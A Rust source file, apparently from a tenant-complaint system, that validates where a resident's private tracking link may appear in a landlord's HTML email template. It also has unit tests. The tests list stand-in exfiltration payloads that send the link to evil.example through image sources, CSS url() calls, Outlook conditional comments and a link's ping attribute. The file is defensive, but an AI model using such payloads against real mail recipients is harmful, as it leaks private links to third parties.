//! Where a private link may stand in the HTML of a landlord's own template.
//!
//! A letter that carries a resident's tracking link is stored with
//! [`LINK_PLACEHOLDER`](redress_store::outbox::LINK_PLACEHOLDER) where the link goes; the
//! outbox worker puts the link in as it sends. A landlord's own HTML could put the
//! placeholder where a mail client fetches it without the resident doing anything (an
//! image's `src`, a stylesheet, a conditional comment Outlook reads), which would hand the
//! resident's link to whoever runs that server. So the placeholder may stand only where it
//! is shown or followed by the resident's own choice: as text, or as the whole `href` of a
//! link. The HTML is parsed as a browser parses it, and every occurrence in the source must
//! be one of those.

use scraper::{Html, Node};

/// Elements whose content is not shown as text (raw text, scripts, metadata, embedded
/// documents): the placeholder may not stand inside them.
const NOT_SHOWN: &[&str] = &[
    "head",
    "title",
    "style",
    "script",
    "noscript",
    "template",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "object",
    "embed",
    "plaintext",
    "select",
    "option",
    "svg",
    "math",
];

/// Attributes a link carrying the placeholder may have besides its `href`: none of them
/// sends the link anywhere.
const LINK_ATTRIBUTES: &[&str] = &[
    "href", "style", "class", "id", "title", "target", "rel", "lang", "dir",
];

/// Why a placement is refused, in words for the template's author.
pub const MISPLACED: &str = "puts the private link where it is not shown as text or as \
     the whole href of a link (<a href=\"{{ tracking_url }}\">): it may stand nowhere else";

/// Checks that every occurrence of `marker` in `html` stands as text or as the whole `href`
/// of an `<a>` with no attribute that sends it elsewhere.
pub fn check(html: &str, marker: &str) -> Result<(), &'static str> {
    let in_source = html.matches(marker).count();
    if in_source == 0 {
        return Ok(());
    }
    let doc = Html::parse_document(html);
    let mut placed = 0;
    for node in doc.tree.nodes() {
        let shown = || {
            !node.ancestors().any(|a| {
                a.value()
                    .as_element()
                    .is_some_and(|e| NOT_SHOWN.contains(&e.name()))
            })
        };
        match node.value() {
            Node::Text(text) => {
                let here = text.matches(marker).count();
                if here > 0 && !shown() {
                    return Err(MISPLACED);
                }
                placed += here;
            }
            Node::Element(e) => {
                let mut carries = false;
                for (name, value) in e.attrs() {
                    if name.contains(marker) {
                        return Err(MISPLACED);
                    }
                    if value.contains(marker) {
                        if e.name() != "a" || name != "href" || value.trim() != marker {
                            return Err(MISPLACED);
                        }
                        carries = true;
                        placed += 1;
                    }
                }
                if carries
                    && (!shown() || e.attrs().any(|(name, _)| !LINK_ATTRIBUTES.contains(&name)))
                {
                    return Err(MISPLACED);
                }
            }
            Node::Comment(c) if c.contains(marker) => return Err(MISPLACED),
            _ => {}
        }
    }
    // What the parser did not see as text or a link's href (inside a comment it ended
    // early, an attribute's name, a character reference): refused.
    if placed == in_source {
        Ok(())
    } else {
        Err(MISPLACED)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    const M: &str = "[private link, sent only to the recipient]";

    fn page(body: &str) -> String {
        format!("<!doctype html><html lang=\"en\"><body>{body}</body></html>")
    }

    #[test]
    fn text_and_a_links_whole_href_are_allowed() {
        for body in [
            "<p>No link here.</p>".to_owned(),
            format!("<p>Follow it: {M}</p>"),
            format!("<p><a href=\"{M}\" style=\"color: #1d70b8;\">your page</a>:<br>{M}</p>"),
            format!("<table><tr><td><a href='{M}' target=\"_blank\">{M}</a></td></tr></table>"),
        ] {
            assert_eq!(check(&page(&body), M), Ok(()), "{body}");
        }
    }

    #[test]
    fn anywhere_a_mail_client_fetches_or_hides_it_is_refused() {
        for body in [
            format!("<img src=\"https://evil.example/?{M}\">"),
            format!("<img src=\"{M}\">"),
            format!("<a href=\"https://evil.example/?u={M}\">x</a>"),
            format!("<a href=\"{M}\" ping=\"https://evil.example/\">x</a>"),
            format!("<p style=\"background: url('https://evil.example/?{M}')\">x</p>"),
            format!("<style>p {{ background: url(https://evil.example/?{M}) }}</style>"),
            format!("<!--[if mso]><img src=\"https://evil.example/?{M}\"><![endif]-->"),
            format!("<img alt='<a href=\"{M}\">' src=x>"),
            format!("<textarea>{M}</textarea>"),
            format!("<noscript><a href=\"{M}\">x</a></noscript>"),
            format!("<svg><image href=\"{M}\"/></svg>"),
            format!("<img src='https://evil.example/?<a href=\"{M}\">x</a>"),
            format!("<title>{M}</title>"),
        ] {
            assert_eq!(check(&page(&body), M), Err(MISPLACED), "{body}");
        }
    }

    #[test]
    fn a_character_reference_the_worker_would_not_replace_is_refused() {
        let encoded = M.replace('[', "&#91;");
        assert_eq!(
            check(&page(&format!("<p>{encoded} and {M}</p>")), M),
            Err(MISPLACED)
        );
    }
}
